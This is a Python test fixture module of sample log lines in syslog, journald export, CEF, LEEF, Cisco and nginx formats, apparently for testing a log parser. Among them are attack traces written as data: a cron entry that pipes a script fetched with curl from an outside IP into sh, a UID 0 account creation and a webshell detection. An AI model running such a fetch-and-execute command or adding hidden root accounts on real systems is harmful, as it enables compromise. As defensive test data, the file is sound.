"""Lines of syslog and entries of the journal for tests, as the programs write them."""

from __future__ import annotations

HEAD = "Oct  1 22:14:15 an-phu-01 "
FAILED = HEAD + "sshd[1234]: Failed password for invalid user admin from 203.0.113.7 port 40022 ssh2"
ACCEPTED = (
    "2026-10-01T22:14:15.123456+07:00 an-phu-01 sshd-session[1234]: "
    "Accepted publickey for lan from 2001:db8::7 port 40022 ssh2: ED25519 SHA256:4FpW4hCk"
)
SUDO = HEAD + "sudo:      lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=/bin/sh -c a ; COMMAND=b"
REFUSED = HEAD + "sudo:      lan : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/lan ; USER=#-1 ; COMMAND=/bin/ls"
ADDED = HEAD + "useradd[1337]: new user: name=hotro, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1"
CRON = HEAD + "CRON[123]: (root) CMD (curl -s http://203.0.113.66/x.sh | sh)"
PACKET = HEAD + (
    "kernel: [12345.678901] [UFW BLOCK] IN=eth0 OUT= MAC=00:00:5e:00:53:01 SRC=203.0.113.9 DST=192.0.2.10 LEN=60 "
    "TOS=0x00 PREC=0x00 TTL=51 ID=0 DF PROTO=TCP SPT=40000 DPT=23 WINDOW=64240 RES=0x00 SYN URGP=0"
)
MALWARE = HEAD + "clamd[77]: /srv/www/up/x.php: Webshell.PHP.Agent-1 FOUND"
PROTOCOL = (
    '<165>1 2026-10-01T22:14:15.003Z portal.gov.example evntslog 77 ID47 [exampleSDID@32473 iut="3" eventSource='
    '"App\\"l\\]ic"][origin ip="192.0.2.1" ip="192.0.2.2"] \ufeffAn application event'
)
CEF = (
    r"<134>Oct  1 22:14:15 fw-01 CEF:0|Example|Wall|1.0|100|blocked \| logged|7|rt=1790867655000 src=203.0.113.7 "
    r"spt=4444 dst=192.0.2.10 dpt=22 proto=TCP act=deny msg=by rule a\=b and c\\d cs1Label=Rule cs1=deny all suser=lan"
)
LEEF = (
    "<134>Oct  1 22:14:15 fw-01 LEEF:2.0|Example|Wall|1.0|100|^|"
    "devTime=Oct 01 2026 22:14:15^src=203.0.113.7^dst=192.0.2.10"
)
IOS = (
    "<189>45: *Oct  1 22:14:15.123 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:lan  "
    "logged command:no dot1x system-auth-control"
)
ASA = (
    "Oct  1 2026 22:14:15: %ASA-4-106023: Deny tcp src outside:203.0.113.7/4444 dst inside:192.0.2.10/22 "
    'by access-group "OUT" [0x0, 0x0]'
)
NGINX = HEAD + 'nginx: 203.0.113.7 - - [01/Oct/2026:22:14:15 +0700] "GET /?id=1 HTTP/1.1" 200 12 "-" "curl/8"'
JSON = HEAD + 'app[1]: @cee: {"user":{"name":"lan"},"codes":[1,2]}'

LINES = (
    FAILED, ACCEPTED, SUDO, REFUSED, ADDED, CRON, PACKET, MALWARE, PROTOCOL, CEF, LEEF, IOS, ASA, NGINX, JSON,
)  # fmt: skip
LOG = "".join(line + "\n" for line in LINES).encode()
FRAMES = b"".join(
    b"%d %s" % (len(line.encode()), line.encode()) for line in (PROTOCOL, CEF, "<13>Oct  1 22:14:15 h p: a\nb")
)
RECORDS = "".join(line[line.index("EF:") - (1 if "CEF" in line else 2) :] + "\n" for line in (CEF, LEEF)).encode()

_ENTRY = (
    "__CURSOR=s=1;i={number};b=2\n__REALTIME_TIMESTAMP=1790867655000123\n_HOSTNAME=an-phu-01\n_PID=1234\nPRIORITY=6\n"
    "SYSLOG_FACILITY=4\nSYSLOG_IDENTIFIER={program}\n_COMM={program}\n{message}\n\n"
)


def binary(name: str, value: bytes) -> bytes:
    """Give a field as the export format writes a value that is no line of text."""
    return name.encode() + b"\n" + len(value).to_bytes(8, "little") + value + b"\n"


def entry(program: str, message: str, number: int = 1) -> bytes:
    """Give an entry of the journal."""
    return _ENTRY.format(number=number, program=program, message="MESSAGE=" + message).encode()


TWO_LINES = entry("app", "x", 2).replace(b"MESSAGE=x\n", binary("MESSAGE", b"one\n\ntwo\xff=\n"))
JOURNAL = entry("sshd", FAILED.split(": ", 1)[1]) + TWO_LINES + entry("sudo", SUDO.split(": ", 1)[1], 3)
